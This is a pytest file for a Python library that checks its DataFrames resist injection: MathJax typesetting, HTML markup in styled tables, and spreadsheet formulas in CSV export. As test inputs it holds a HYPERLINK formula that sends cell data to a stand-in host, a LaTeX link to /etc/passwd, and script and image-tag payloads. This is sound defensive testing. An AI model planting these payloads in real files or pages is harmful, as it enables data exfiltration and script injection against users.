"""Text from outside does nothing in the frames that are handed out, nor in the files that are made of them."""

from __future__ import annotations

import asyncio
import csv
import io
import pickle

import pandas as pd
import pytest

import llx_magic as llx
from llx_magic.observe.frames.frames import reply_frame
from llx_magic.observe.frames.inert import InertFrame
from llx_magic.profiles.document import ModelProfile, Profile
from llx_magic.template.template import Template

FORMULA = '=HYPERLINK("http://a.example/?"&A1)'
TYPESET = r"$\href{file:///etc/passwd}{x}$"


def frames(lb: llx.LoadBalancer) -> list[pd.DataFrame]:
    return [lb.stats(), lb.history(), lb.attempts(), lb.events(), lb.tpm(), lb.circuit()]


def is_inert(html: str) -> bool:
    return html.startswith('<div class="tex2jax_ignore mathjax_ignore">')


@pytest.fixture
def lb_frames():
    """Frames of every method that hands one out, and of a reply."""

    async def ask() -> list[pd.DataFrame]:
        member = ModelProfile("one", "simulated", FORMULA, params={"reply": TYPESET})
        async with llx.load(Profile.single(member), isolated=True) as lb:
            await lb.ask("why?")
            return [*frames(lb), reply_frame('[{"a": "=1+1", "b": "$x$"}]')]

    return asyncio.run(ask())


def test_no_front_end_typesets_a_frame_that_is_handed_out(lb_frames):
    for frame in lb_frames:
        assert is_inert(frame._repr_html_())
        assert "mathjax_ignore" in frame.to_html().partition(">")[0]
        assert "mathjax_ignore" in frame.style.to_html()


def test_a_styled_frame_holds_no_markup_of_its_texts():
    frame = reply_frame('[{"<script>a": "<img src=x>"}]')
    styled = frame.set_index(frame.columns[0], drop=False).style.highlight_max().to_html()
    assert styled.count("&lt;img") == 2
    assert "&lt;script" in styled
    assert "<img" not in styled
    assert "<script" not in styled


@pytest.mark.parametrize(
    "made",
    [
        lambda frame: frame.head(1),
        lambda frame: frame[["model"]],
        lambda frame: frame[frame.attempts > 0],
        lambda frame: frame.sort_values("seconds"),
        lambda frame: frame.model.to_frame(),
        lambda frame: frame.model.value_counts().to_frame(),
        lambda frame: frame.groupby("model").seconds.mean().to_frame(),
        lambda frame: frame.groupby("model").size().reset_index(),
        lambda frame: frame.T,
        lambda frame: frame.describe(),
        lambda frame: frame.copy(),
        lambda frame: frame.merge(pd.DataFrame({"attempts": [1]}), on="attempts"),
        lambda frame: pd.concat([frame, frame]),
        lambda frame: frame.set_index("model"),
        lambda frame: frame.assign(more=1),
        lambda frame: pickle.loads(pickle.dumps(frame)),
    ],
)
def test_what_is_made_of_a_frame_is_inert_too(lb_frames, made):
    assert is_inert(made(lb_frames[1])._repr_html_())


def test_a_text_that_a_spreadsheet_would_calculate_stands_behind_a_quotation_mark(lb_frames):
    history = lb_frames[1]
    [row] = csv.DictReader(io.StringIO(history.to_csv(index=False)))
    assert row["model"] == f"'{FORMULA}"
    assert row["request"] == "1"
    assert history.model[0] == FORMULA


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r"])
@pytest.mark.parametrize("kind", ["object", "string", "category"])
def test_every_beginning_of_a_formula_is_seen_in_every_kind_of_text_and_in_labels(begin, kind):
    word = f"{begin}1"
    frame = InertFrame({word: pd.array([word, None, "a"], dtype=kind)}, index=[word, "b", "c"])
    rows = list(csv.reader(io.StringIO(frame.to_csv(quoting=csv.QUOTE_ALL), newline="")))
    assert rows == [["", f"'{word}"], [f"'{word}", f"'{word}"], ["b", ""], ["c", "a"]]


def test_numbers_and_times_are_written_as_they_are():
    frame = InertFrame({"n": [-1, 2], "f": [-0.5, 1.5], "t": pd.to_datetime(["2026-01-01", None])})
    assert frame.to_csv() == pd.DataFrame(frame).to_csv()


def test_a_prompt_takes_such_a_frame_as_it_takes_any(lb_frames):
    rendered = Template("{{ h.head(1)[['outcome']] }}").render({"h": lb_frames[1]})
    assert "answered" in rendered.text


def test_a_plain_frame_of_it_is_the_same_table(lb_frames):
    for frame in lb_frames:
        plain = pd.DataFrame(frame)
        assert type(plain) is pd.DataFrame
        assert plain.equals(frame)


def test_an_empty_frame_calls_itself_by_the_name_that_people_know():
    assert repr(InertFrame({"a": []})).startswith("Empty DataFrame")
